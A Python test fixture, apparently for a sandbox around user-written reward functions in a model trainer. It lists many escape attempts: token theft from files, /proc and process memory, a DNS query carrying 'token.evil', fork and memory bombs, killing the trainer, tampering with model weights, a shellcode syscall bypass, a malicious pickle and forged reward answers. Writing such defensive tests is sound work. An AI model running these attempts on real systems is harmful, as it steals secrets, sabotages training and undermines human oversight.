"""What somebody would try who may write a reward function, one entry an attempt; run by every test of a box.

An attempt is the body of ``escape(target)``: it returns whether it got through. What it does to the world outside is
for the test to look at afterwards. `target` says what there is to attack:

- ``pid``: a process of the trainer's user that leads its group and has ``TOKEN`` in its environment; ``address``: of
  something in its memory
- ``token``, ``other``: files that the trainer may read; ``package``: the folder of the trainer's packages
- ``model``: a folder with a file ``weights`` that the box's user may write by the file's own rights
- ``link``: a symbolic link in a shared folder to those weights; ``reward``: the file of the reward's own source
- ``tcp``, ``udp``: ports on 127.0.0.1 where somebody listens; ``abstract``, ``socket``: sockets where somebody listens
- ``site``: the folder of the interpreter's libraries
- ``marker``: a file that is there once code of the attempt ran outside
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

PRELUDE = '''
import ctypes, errno, glob, json, os, platform, signal, socket, stat, struct, sys, threading, time
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NUMBERS = {  # x86_64, aarch64
    "process_vm_readv": (310, 270), "ptrace": (101, 117), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438),
    "pidfd_send_signal": (424, 424), "io_uring_setup": (425, 425), "memfd_create": (319, 279), "shmget": (29, 194),
    "mq_open": (180, 180), "tkill": (200, 130), "rt_sigqueueinfo": (129, 138), "setns": (308, 268), "bpf": (321, 280),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "add_key": (248, 217), "personality": (135, 92),
    "inotify_init1": (294, 26), "name_to_handle_at": (303, 264), "kcmp": (312, 272), "setpriority": (141, 140),
    "clone3": (435, 435), "prctl": (157, 167), "memfd_secret": (447, 447),
    "msgget": (68, 186),
}


def call(name, *arguments):
    """Make a system call and raise what the kernel answers."""
    number = NUMBERS[name][0 if platform.machine() == "x86_64" else 1]
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def connection():
    """Return the descriptor of the socket to the outside."""
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    raise OSError("no socket")


def batch():
    """Return the number of the batch that is asked, from the frames of those who called."""
    frame = sys._getframe()
    while frame:
        if "request" in frame.f_locals:
            return frame.f_locals["request"]["id"]
        frame = frame.f_back
    return ""


def write(*documents):
    """Write answers, as the runner would."""
    bodies = [each if isinstance(each, bytes) else json.dumps(each).encode() for each in documents]
    os.write(connection(), b"".join(struct.pack(">I", len(body)) + body for body in bodies))


def flatten(tree):
    """Yield the leaves of nested lists and dictionaries."""
    for each in tree.values() if isinstance(tree, dict) else tree:
        if isinstance(each, str):
            yield each
        else:
            yield from flatten(each)


def attempt(completions, target, **_):
    return [float(bool(escape(target[0])))]

'''

ROOT, USER = "root", "user"


@dataclass(frozen=True)
class Attempt:
    """One way out, or to do harm.

    Attributes
    ----------
    name
        What is attempted.
    wall
        What stops it.
    body
        The body of ``escape(target)``.
    shown
        As whom it gets through without a box, here: as the one or the other, as neither where the thing that it
        attacks is not there, or it would take the machine with it.
    ends
        Whether it costs the box its process: it hangs, dies or forges an answer, and the batch is not scored.
    """

    name: str
    wall: str
    body: str
    shown: tuple[str, ...] = (ROOT, USER)
    ends: bool = False

    @property
    def source(self) -> str:
        """The whole of the user's code."""
        return f"{PRELUDE}\ndef escape(target):\n{textwrap.indent(textwrap.dedent(self.body).strip(), '    ')}\n"


LANDLOCK = "Landlock: files"
CALLS = "seccomp: the call is not on the list"
SOCKETS = "seccomp: no sockets but pairs"
PROCESSES = "seccomp: no processes"
ARGUMENTS = "seccomp: the call's arguments"
LIMIT = "rlimit"
CHECKED = "the parent checks every answer"
DEADLINE = "killed at the deadline"

ATTEMPTS = (
    # what is secret
    Attempt("read the token's file", LANDLOCK, "return Path(target['token']).read_text()"),
    Attempt(
        "read the token by a symbolic link in /tmp",
        "seccomp: no links",
        """
        import tempfile
        link = os.path.join(tempfile.mkdtemp(), "link")
        os.symlink(target["token"], link)
        return open(link).read()
        """,
    ),
    Attempt("its own environment", "started with an environment of its own", "return 'TOKEN' in os.environ"),
    Attempt(
        "the environment of the trainer",
        LANDLOCK,
        "return b'TOKEN=' in Path(f\"/proc/{target['pid']}/environ\").read_bytes()",
    ),
    Attempt("the environment of pid 1", LANDLOCK, "return Path('/proc/1/environ').read_bytes() is not None", ()),
    Attempt(
        "the environment of its parent",
        LANDLOCK,
        "return open(f'/proc/{os.getppid()}/environ', 'rb').read() is not None",
    ),
    Attempt(
        "list /proc and read command lines",
        LANDLOCK,
        "return str(target['pid']) in os.listdir('/proc') and open(f\"/proc/{target['pid']}/cmdline\").read()",
    ),
    Attempt(
        "where the trainer works, by the links of /proc",
        "seccomp: no readlink",
        "return os.readlink(f\"/proc/{target['pid']}/cwd\")",
    ),
    Attempt("the trainer's memory by /proc/PID/mem", LANDLOCK, "return open(f\"/proc/{target['pid']}/mem\", 'rb')"),
    Attempt(
        "the trainer's memory by process_vm_readv",
        CALLS,
        """
        buffer = ctypes.create_string_buffer(8)
        here, there = ((ctypes.c_uint64 * 2)(base, 8) for base in (ctypes.addressof(buffer), target["address"]))
        return call("process_vm_readv", target["pid"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 8
        """,
    ),
    Attempt("attach to the trainer with ptrace", CALLS, "return call('ptrace', 0x4206, target['pid'], 0, 0) == 0"),
    Attempt(
        "take a descriptor of the trainer's with pidfd_getfd",
        CALLS,
        "return call('pidfd_getfd', call('pidfd_open', target['pid'], 0), 0, 0) >= 0",
    ),
    Attempt("a handle on the trainer by pidfd_open", CALLS, "return call('pidfd_open', target['pid'], 0) >= 0"),
    Attempt("read the list of users", LANDLOCK, "return open('/etc/passwd').read()"),
    Attempt("read a file of the trainer's", LANDLOCK, "return open(target['other']).read()"),
    Attempt("list the root folder", LANDLOCK, "return os.listdir('/')"),
    Attempt("list the folder of the model", LANDLOCK, "return os.listdir(target['model'])"),
    Attempt(
        "a file's handle, past its path",
        CALLS,
        """
        handle = (ctypes.c_uint32 * 34)(128)
        mount = ctypes.c_int()
        path = target["token"].encode()
        return call("name_to_handle_at", -100, path, ctypes.byref(handle), ctypes.byref(mount), 0) == 0
        """,
    ),
    Attempt(
        "import the trainer's package and reach its state",
        LANDLOCK,
        """
        sys.path.insert(0, target["package"])
        import reasoning_trainer.storage.run_folder
        return True
        """,
    ),
    Attempt(
        "read the trainer's source", LANDLOCK, "return list(Path(target['package'], 'reasoning_trainer').iterdir())"
    ),
    Attempt(
        "look for the token in what the process remembers",
        "a fresh interpreter: never forked from the trainer",
        """
        import gc
        return any("TOKEN" in each for each in gc.get_objects() if isinstance(each, dict))
        """,
        (),
    ),
    # the network
    Attempt("connect by TCP", SOCKETS, "return socket.create_connection(('127.0.0.1', target['tcp']), 2)"),
    Attempt(
        "send by UDP",
        SOCKETS,
        "return socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', target['udp']))",
    ),
    Attempt(
        "ask the metadata address",
        SOCKETS,
        """
        asking = socket.socket()
        asking.settimeout(0.3)
        try:
            asking.connect(("169.254.169.254", 80))
        except OSError as error:  # without a box the packet goes out, whoever answers
            return error.errno not in (errno.EPERM, errno.EACCES)
        return True
        """,
    ),
    Attempt("resolve a name", SOCKETS, "return socket.getaddrinfo('localhost', 80)"),
    Attempt(
        "ask a name server by hand",
        SOCKETS,
        """
        question = b"\\x00\\x01\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x05token\\x04evil\\x00\\x00\\x01\\x00\\x01"
        return socket.socket(type=socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", target["udp"]))
        """,
    ),
    Attempt("listen on a port", SOCKETS, "return socket.create_server(('127.0.0.1', 0))"),
    Attempt(
        "connect to an abstract socket",
        SOCKETS,
        "return socket.socket(socket.AF_UNIX).connect('\\0' + target['abstract']) is None",
    ),
    Attempt(
        "connect to a socket in a folder",
        SOCKETS,
        "return socket.socket(socket.AF_UNIX).connect(target['socket']) is None",
    ),
    Attempt(
        "send from a pair of datagram sockets to another",
        ARGUMENTS,
        "return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0] and True",
    ),
    Attempt("netlink", SOCKETS, "return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"),
    Attempt("raw packets", SOCKETS, "return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)", (ROOT,)),
    Attempt("the host by vsock", SOCKETS, "return socket.socket(socket.AF_VSOCK)", ()),
    Attempt(
        "sockets past the filter by io_uring",
        CALLS,
        "return call('io_uring_setup', 4, ctypes.byref((ctypes.c_char * 120)())) >= 0",
    ),
    # processes, memory, disk
    Attempt("fork", PROCESSES, "child = os.fork()\nif not child: os._exit(0)\nreturn os.waitpid(child, 0)"),
    Attempt(
        "a fork bomb",
        PROCESSES,
        """
        children = []
        for _ in range(200):
            child = os.fork()
            if not child:
                time.sleep(60)
                os._exit(0)
            children.append(child)
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)
        return True
        """,
    ),
    Attempt("run a program", PROCESSES, "import subprocess\nreturn subprocess.run(['/bin/true']).returncode == 0"),
    Attempt("spawn a program", PROCESSES, "return os.posix_spawn('/bin/true', ['true'], {})"),
    Attempt("become another program", CALLS, "os.execv('/bin/sh', ['sh', '-c', 'exit 77'])"),
    Attempt(
        "start processes with multiprocessing",
        PROCESSES,
        "import multiprocessing\nwith multiprocessing.Pool(1) as pool: return pool.map(abs, [1])",
    ),
    Attempt(
        "a process by clone3, whose flags no filter sees",
        CALLS,
        """
        arguments = (ctypes.c_uint64 * 8)(0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
        child = call("clone3", ctypes.byref(arguments), 64)
        if child == 0:
            os._exit(0)
        return os.waitpid(child, 0)
        """,
    ),
    Attempt(
        "10,000 threads",
        LIMIT + ": processes",
        """
        threading.stack_size(32768)
        done = threading.Event()
        started = 0
        try:
            for _ in range(10_000):
                threading.Thread(target=done.wait, daemon=True).start()
                started += 1
                if started > 500:
                    break
        except RuntimeError:
            pass
        finally:
            done.set()
        return started > 100
        """,
    ),
    Attempt("a memory bomb", LIMIT + ": address space", "return len(bytes(3 * 2**30))"),
    Attempt(
        "a memory bomb in small pieces",
        LIMIT + ": address space",
        """
        import mmap
        pieces = []
        for _ in range(3 * 2**30 // 2**20):
            pieces.append(mmap.mmap(-1, 2**20))
        return True
        """,
    ),
    Attempt("memory that counts for nobody (memfd)", CALLS, "return call('memfd_create', b'x', 0) >= 0"),
    Attempt("secret memory", CALLS, "return call('memfd_secret', 0) >= 0", ()),
    Attempt(
        "shared memory that stays (System V)",
        CALLS,
        """
        number = call("shmget", 0, 4096, 0o1600)
        libc.shmctl(number, 0, None)
        return number >= 0
        """,
    ),
    Attempt(
        "System V semaphores and queues",
        CALLS,
        """
        number = call("msgget", 0, 0o1600)
        libc.msgctl(number, 0, None)
        return number >= 0
        """,
    ),
    Attempt(
        "a file in shared memory",
        LANDLOCK,
        """
        path = f"/dev/shm/box-attempt-{os.getpid()}"
        open(path, "x")
        os.unlink(path)
        return True
        """,
    ),
    Attempt(
        "fill the disk",
        "a /tmp of its own, of 32 MiB, or none",
        """
        import tempfile
        folder, written = tempfile.mkdtemp(), 0
        try:
            for number in range(100):
                with open(f"{folder}/{number}", "wb") as file:
                    written += file.write(bytes(2**20))
        finally:
            for path in glob.glob(f"{folder}/*"):
                os.unlink(path)
        return written > 64 * 2**20
        """,
    ),
    Attempt(
        "one huge file",
        LIMIT + ": file size",
        """
        import tempfile
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        file = tempfile.TemporaryFile()
        file.truncate(2**34)
        return True
        """,
    ),
    Attempt(
        "use up the files that may be open",
        LIMIT + ": open files",
        """
        files = []
        try:
            for _ in range(300):
                files.append(os.open("/dev/null", os.O_RDONLY))
        finally:
            for file in files:
                os.close(file)
        return True
        """,
    ),
    Attempt(
        "raise its own limits",
        ARGUMENTS,
        """
        import resource
        limits = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (limits[0] - 1, limits[1]))
        return True
        """,
    ),
    Attempt("take more processors", CALLS, "os.sched_setaffinity(0, range(os.cpu_count()))\nreturn True"),
    # the trainer
    Attempt("a signal to the trainer", ARGUMENTS, "os.kill(target['pid'], signal.SIGCONT)\nreturn True"),
    Attempt("kill the trainer", ARGUMENTS, "os.kill(target['pid'], signal.SIGKILL)\nreturn True"),
    Attempt("stop the trainer's group", ARGUMENTS, "os.killpg(target['pid'], signal.SIGSTOP)\nreturn True"),
    Attempt("kill its parent", ARGUMENTS, "os.kill(os.getppid(), 0)\nreturn True"),
    Attempt("a signal by tkill", CALLS, "return call('tkill', target['pid'], 18) == 0"),
    Attempt(
        "a signal by tgkill",
        ARGUMENTS,
        "return libc.tgkill(target['pid'], target['pid'], 18) == 0",
    ),
    Attempt(
        "a signal by pidfd",
        CALLS,
        """
        return call("pidfd_send_signal", call("pidfd_open", target["pid"], 0), 18, 0, 0) == 0
        """,
    ),
    Attempt(
        "a signal with a forged sender",
        CALLS,
        """
        information = (ctypes.c_int * 32)(18, 0, -1)
        return call("rt_sigqueueinfo", target["pid"], 18, ctypes.byref(information)) == 0
        """,
    ),
    Attempt(
        "a signal by the owner of a descriptor",
        ARGUMENTS,
        """
        import fcntl
        reading, writing = os.pipe()
        fcntl.fcntl(reading, fcntl.F_SETOWN, target["pid"])
        return True
        """,
    ),
    Attempt(
        "a signal by ioctl",
        ARGUMENTS,
        """
        import fcntl
        one = socket.socketpair()[0]
        fcntl.ioctl(one, 0x8901, struct.pack("i", target["pid"]))
        return True
        """,
    ),
    Attempt("the trainer's priority", CALLS, "return call('setpriority', 0, target['pid'], 10) == 0"),
    Attempt(
        "the trainer's limits",
        ARGUMENTS,
        """
        import resource
        resource.prlimit(target["pid"], resource.RLIMIT_CORE, (0, 0))
        return True
        """,
    ),
    Attempt(
        "compare its descriptors with the trainer's",
        CALLS,
        """
        return call("kcmp", os.getpid(), target["pid"], 1, 0, 0) >= 0
        """,
    ),
    Attempt("outlive whoever started it", ARGUMENTS, "return call('prctl', 1, 0, 0, 0, 0) == 0"),
    Attempt("set the clock", CALLS, "time.clock_settime(time.CLOCK_REALTIME, time.time())\nreturn True", (ROOT,)),
    # devices and the kernel
    Attempt(
        "the GPU, and other devices",
        LANDLOCK,
        """
        paths = [*glob.glob("/dev/nvidia*"), "/dev/kvm", "/dev/mem", "/dev/fuse", "/dev/net/tun", "/dev/full"]
        opened = []
        for path in paths:
            try:
                opened.append(os.open(path, os.O_RDWR))
            except OSError:
                continue
        return opened
        """,
    ),
    Attempt("the terminal", LANDLOCK, "return os.open('/dev/ptmx', os.O_RDWR)"),
    # of users, which a kernel denies to whoever lives in a chroot, or else of mounts, which root may have there too
    Attempt(
        "namespaces of its own",
        CALLS,
        "return libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0",
        (ROOT,),
    ),
    Attempt("mount", CALLS, "return libc.mount(b'none', target['model'].encode(), b'tmpfs', 32 | 4096, None) == 0", ()),
    Attempt("leave by chroot", CALLS, "os.chroot('/')\nreturn True", (ROOT,)),
    Attempt(
        "join the trainer's namespaces",
        LANDLOCK,
        """
        return libc.setns(os.open(f"/proc/{target['pid']}/ns/net", os.O_RDONLY), 0) == 0
        """,
        (ROOT,),
    ),
    Attempt("become root", CALLS, "os.setuid(0)\nreturn True", (ROOT,)),
    Attempt("bpf", CALLS, "return call('bpf', 5, ctypes.byref((ctypes.c_char * 128)()), 128)", ()),
    Attempt(
        "perf",
        CALLS,
        """
        attributes = (ctypes.c_uint32 * 32)(1, 128)
        return call("perf_event_open", ctypes.byref(attributes), 0, -1, -1, 0) >= 0
        """,
        (),
    ),
    Attempt("userfaultfd", CALLS, "return call('userfaultfd', 1) >= 0"),
    Attempt("the kernel's keys", CALLS, "return call('add_key', b'user', b'box', b'x', 1, -2) >= 0", ()),
    Attempt("watch the model's folder", CALLS, "return call('inotify_init1', 0) >= 0"),
    Attempt("another personality of the kernel", CALLS, "return call('personality', 0xFFFFFFFF) >= 0"),
    Attempt("another filter over the filter", ARGUMENTS, "return libc.prctl(21, 0, 0, 0, 0) >= 0"),
    Attempt(
        "a system call of 32 bits, past the filter",
        "seccomp: killed by another architecture",
        """
        import mmap
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(bytes.fromhex("b814000000cd80c3"))
        function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        return function() > 0
        """,
        ends=True,
    ),
    Attempt(
        "a system call of x32, past the filter",
        "seccomp: killed by x32's numbers",
        """
        return libc.syscall(ctypes.c_long(0x40000000 | 41), 1, 1, 0) >= 0
        """,
        (),
        ends=True,
    ),
    # the volume and the files
    Attempt("write the model by its path", LANDLOCK, "return open(target['model'] + '/weights', 'w').write('x')"),
    Attempt("append to the model", LANDLOCK, "return open(target['model'] + '/weights', 'a').write('x')"),
    Attempt("cut the model by its name", CALLS, "os.truncate(target['model'] + '/weights', 0)\nreturn True"),
    Attempt(
        "cut the model while opening it to read",
        ARGUMENTS,
        "return os.open(target['model'] + '/weights', os.O_RDONLY | os.O_TRUNC)",
    ),
    Attempt("delete the model", LANDLOCK, "os.unlink(target['model'] + '/weights')\nreturn True"),
    Attempt(
        "rename the model", LANDLOCK, "os.rename(target['model'] + '/weights', target['model'] + '/w')\nreturn True"
    ),
    Attempt("a new file beside the model", LANDLOCK, "return open(target['model'] + '/new', 'x')"),
    Attempt("a folder beside the model", LANDLOCK, "os.mkdir(target['model'] + '/folder')\nreturn True"),
    Attempt("a device beside the model", CALLS, "os.mkfifo(target['model'] + '/pipe')\nreturn True"),
    Attempt("write the model by a link on the shared folder", LANDLOCK, "return open(target['link'], 'a').write('x')"),
    Attempt(
        "write the model by a symbolic link of its own",
        "seccomp: no links",
        """
        import tempfile
        link = os.path.join(tempfile.mkdtemp(), "link")
        os.symlink(target["model"] + "/weights", link)
        return open(link, "a").write("x")
        """,
    ),
    Attempt(
        "write the model by a hard link",
        "seccomp: no links",
        """
        link = target["model"] + "/hard"
        os.link(target["model"] + "/weights", link)
        return open(link, "a").write("x")
        """,
    ),
    Attempt(
        "write the model by /proc/self/fd",
        LANDLOCK,
        """
        fd = os.open(target["model"] + "/weights", os.O_PATH)
        return open(f"/proc/self/fd/{fd}", "a").write("x")
        """,
    ),
    Attempt(
        "write to descriptors left open",
        "started with three descriptors",
        """
        found = []
        for fd in range(3, 1024):
            try:
                if stat.S_ISREG(os.fstat(fd).st_mode):
                    found.append(os.write(fd, b"x"))
            except OSError:
                continue
        return found
        """,
    ),
    Attempt("the model's rights", CALLS, "os.chmod(target['model'] + '/weights', 0o777)\nreturn True"),
    Attempt("the model's owner", CALLS, "os.chown(target['model'] + '/weights', -1, os.getgid())\nreturn True"),
    Attempt("the model's times", CALLS, "os.utime(target['model'] + '/weights', (0, 0))\nreturn True"),
    Attempt(
        "attributes of the model", CALLS, "os.setxattr(target['model'] + '/weights', 'user.x', b'x')\nreturn True", ()
    ),
    Attempt("overwrite the reward's own file", LANDLOCK, "return open(target['reward'], 'a').write('x')"),
    Attempt(
        "replace the socket",
        LANDLOCK,
        """
        os.unlink(target["socket"])
        return socket.socket(socket.AF_UNIX).bind(target["socket"]) is None
        """,
    ),
    Attempt(
        "rename a file over the socket",
        LANDLOCK,
        """
        import tempfile
        os.rename(tempfile.mkstemp(dir=target["model"])[1], target["socket"])
        return True
        """,
    ),
    Attempt(
        "a library for the next start",
        LANDLOCK,
        """
        path = target["site"] + "/box_attempt.pth"
        open(path, "x").close()
        os.unlink(path)
        return True
        """,
        (ROOT,),
    ),
    Attempt(
        "variables of the interpreter for the next start",
        "started with an environment of its own",
        """
        os.environ.update(PYTHONSTARTUP=target["marker"], LD_PRELOAD=target["marker"], PYTHONPATH=target["model"])
        return False
        """,
        (),
    ),
    # answers
    Attempt(
        "a pickle as an answer",
        CHECKED + ": never unpickled",
        """
        import pickle
        class Evil:
            def __reduce__(self):
                return open, (target["marker"], "w")
        write(pickle.dumps(Evil()))
        """,
        (),
        ends=True,
    ),
    Attempt(
        "an answer to another batch",
        CHECKED,
        """
        write({"id": "0" * 32, "values": [1.0], "problems": [], "printed": ""})
        """,
        (),
        ends=True,
    ),
    Attempt(
        "two answers",
        CHECKED,
        """
        answer = {"id": batch(), "values": [0.0], "problems": [], "printed": ""}
        write(answer, answer)
        """,
        (),
        ends=True,
    ),
    Attempt(
        "an answer that is no number",
        CHECKED,
        """
        write(b'{"id": "%s", "values": [NaN], "problems": [], "printed": ""}' % batch().encode())
        """,
        (),
        ends=True,
    ),
    Attempt(
        "an answer with too many values",
        CHECKED,
        """
        write({"id": batch(), "values": [1.0, 1.0], "problems": [], "printed": ""})
        """,
        (),
        ends=True,
    ),
    Attempt(
        "an answer with an endless number",
        CHECKED,
        """
        write(b'{"id": "%s", "values": [1%s], "problems": [], "printed": ""}' % (batch().encode(), b"0" * 4000))
        """,
        (),
        ends=True,
    ),
    Attempt("an answer of 4 GiB", CHECKED, "os.write(connection(), b'\\xff\\xff\\xff\\xff')", (), ends=True),
    Attempt("half an answer", CHECKED, "os.write(connection(), b'\\0\\0\\0\\x64{')\nos._exit(0)", (), ends=True),
    Attempt("an answer nested without end", CHECKED, "write(b'[' * 1_000_000)", (), ends=True),
    Attempt("hang up and live on", CHECKED, "os.close(connection())\ntime.sleep(60)", (), ends=True),
    # time
    Attempt(
        "a regular expression that explodes",
        DEADLINE,
        """
        import re
        return re.match(r"(a+)+$", "a" * 50 + "b")
        """,
        (),
        ends=True,
    ),
    Attempt(
        "YAML that explodes",
        DEADLINE,
        """
        import yaml
        lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [{', '.join(4 * [f'*a{n - 1}'])}]" for n in range(1, 30)]
        return sum(1 for _ in flatten(yaml.safe_load("\\n".join(lines))))
        """,
        (),
        ends=True,
    ),
    Attempt(
        "a loop that catches everything",
        DEADLINE,
        """
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
        while True:
            try:
                time.sleep(0.01)
            except BaseException:
                pass
        """,
        (),
        ends=True,
    ),
    Attempt("stop itself", DEADLINE, "os.kill(os.getpid(), signal.SIGSTOP)", (), ends=True),
    Attempt(
        "1 GB printed",
        "the beginning is kept, the rest counted",
        """
        piece = "x" * 2**20
        for _ in range(1000):
            print(piece)
        return False
        """,
        (),
    ),
    Attempt(
        "1 GB written past Python",
        "the beginning is kept, the rest thrown away",
        """
        piece = b"x" * 2**20
        for _ in range(1000):
            os.write(1, piece)
        return False
        """,
        (),
    ),
)
